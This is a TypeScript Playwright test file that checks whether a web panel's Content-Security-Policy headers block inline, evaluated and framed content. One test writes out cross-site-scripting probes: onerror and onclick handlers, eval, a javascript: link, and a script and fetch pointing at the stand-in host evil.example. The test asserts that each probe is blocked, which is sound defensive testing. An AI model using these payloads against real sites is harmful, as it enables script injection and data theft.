import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, test } from 'node:test';
import type { Page } from 'playwright-core';
import { CASE } from './kit/invoice-form.ts';
import { startPanel, type Panel } from './kit/panel.ts';
import { signIn } from './kit/sign-in.ts';

let panel: Panel;
let page: Page;
before(async () => {
  panel = await startPanel({ history: false });
  page = await panel.open();
  await page.addInitScript({
    content: `addEventListener('securitypolicyviolation', event => {
      (window.violations ??= []).push(event.effectiveDirective + ' ' + event.blockedURI);
    });`,
  });
});
after(() => panel.stop());

const violations = () => page.evaluate<string[]>('window.violations ?? []');

test('S32 every page and file comes with a policy that allows our own scripts alone, and nothing inline, evaluated or framed', async () => {
  for (const path of ['/', '/dashboard', '/account/auth', '/no/such/page', '/api/v1/settings']) {
    const policy = (await fetch(panel.url + path)).headers.get('content-security-policy') ?? '';
    const rules = new Map(
      policy.split(';').map(rule => [rule.split(' ')[0]!, rule.split(' ').slice(1).join(' ')] as const),
    );
    for (const [directive, allowed] of [
      ['default-src', "'none'"],
      ['script-src', "'self'"],
      ['style-src', "'self'"],
      ['base-uri', "'none'"],
      ['frame-ancestors', "'none'"],
      ['require-trusted-types-for', "'script'"],
    ] as const)
      assert.equal(rules.get(directive), allowed, `${path} ${directive}`);
    assert.doesNotMatch(policy, /unsafe/);
  }
});

test('S32 working in the panel breaks the policy nowhere', async () => {
  await signIn(panel, page, '09121111111');
  for (const path of [
    '/dashboard',
    '/account/profile',
    '/user/cases',
    `/cases/${CASE}/dashboard`,
    `/cases/${CASE}/buyers`,
    `/cases/${CASE}/commodities`,
    `/cases/${CASE}/invoices/list/single`,
    `/cases/${CASE}/invoices/create/single`,
    '/inquiry/authenticities',
  ]) {
    await page.goto(panel.url + path);
    await page.locator('h1').first().waitFor();
    assert.deepEqual(await violations(), [], path);
  }
  assert.deepEqual(
    panel.faults.filter(fault => /policy|trusted/i.test(fault)),
    [],
  );
});

test('S32 a script that got into the page does not run, however it got there', async () => {
  await page.goto(`${panel.url}/dashboard`);
  await page.locator('h1').first().waitFor();
  const tried = await page.evaluate<Record<string, string>>(`(async () => {
    // What the driver evaluates may evaluate too; what the page runs later may not.
    await new Promise(resolve => setTimeout(resolve, 50));
    const outcome = {};
    const attempt = async (name, act) => {
      try { await act(); outcome[name] = 'passed'; } catch (error) { outcome[name] = error.name; }
    };
    const ran = 'window.ran = (window.ran ?? 0) + 1';
    await attempt('innerHTML', () => { document.body.innerHTML += '<img src=x onerror="' + ran + '">'; });
    await attempt('outerHTML', () => { document.body.lastElementChild.outerHTML = '<b onclick="' + ran + '">'; });
    await attempt('script text', () => {
      const script = document.createElement('script');
      script.text = ran;
      document.head.append(script);
    });
    await attempt('script address', () => {
      const script = document.createElement('script');
      script.src = 'https://evil.example/x.js';
      document.head.append(script);
    });
    await attempt('handler', () => {
      const button = document.createElement('button');
      button.setAttribute('onclick', ran);
      document.body.append(button);
      button.click();
      button.remove();
    });
    await attempt('eval', () => eval(ran));
    await attempt('function', () => new Function(ran)());
    await attempt('timer', () => setTimeout(ran, 0));
    await attempt('javascript address', async () => {
      const link = document.createElement('a');
      link.href = 'javascript:' + ran;
      document.body.append(link);
      link.click();
      link.remove();
      await new Promise(resolve => setTimeout(resolve, 200));
    });
    await attempt('another host', () => fetch('https://evil.example/'));
    outcome.ran = String(window.ran ?? 0);
    return outcome;
  })()`);
  assert.equal(tried.ran, '0', JSON.stringify(tried));
  for (const name of ['innerHTML', 'outerHTML', 'script text', 'script address', 'eval', 'function', 'timer'])
    assert.notEqual(tried[name], 'passed', name);
  assert.notEqual(tried['another host'], 'passed');
  assert.ok((await violations()).length >= 3, 'what was blocked is reported');
});

test('S32 no other site can put the panel into a frame', async () => {
  const other = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html');
    response.end(`<iframe id="panel" src="${panel.url}/account/auth"></iframe>`);
  });
  await new Promise<void>(resolve => other.listen(0, resolve));
  const stranger = await panel.open();
  try {
    await stranger.goto(`http://127.0.0.1:${(other.address() as AddressInfo).port}/`);
    await stranger.waitForTimeout(1_000);
    const frame = stranger.frames().find(each => each !== stranger.mainFrame())!;
    assert.equal(await frame.locator('input').count(), 0);
    assert.match(panel.faults.at(-1) ?? '', /frame-ancestors|refused to connect|Framing/);
  } finally {
    await stranger.context().close();
    other.close();
  }
});
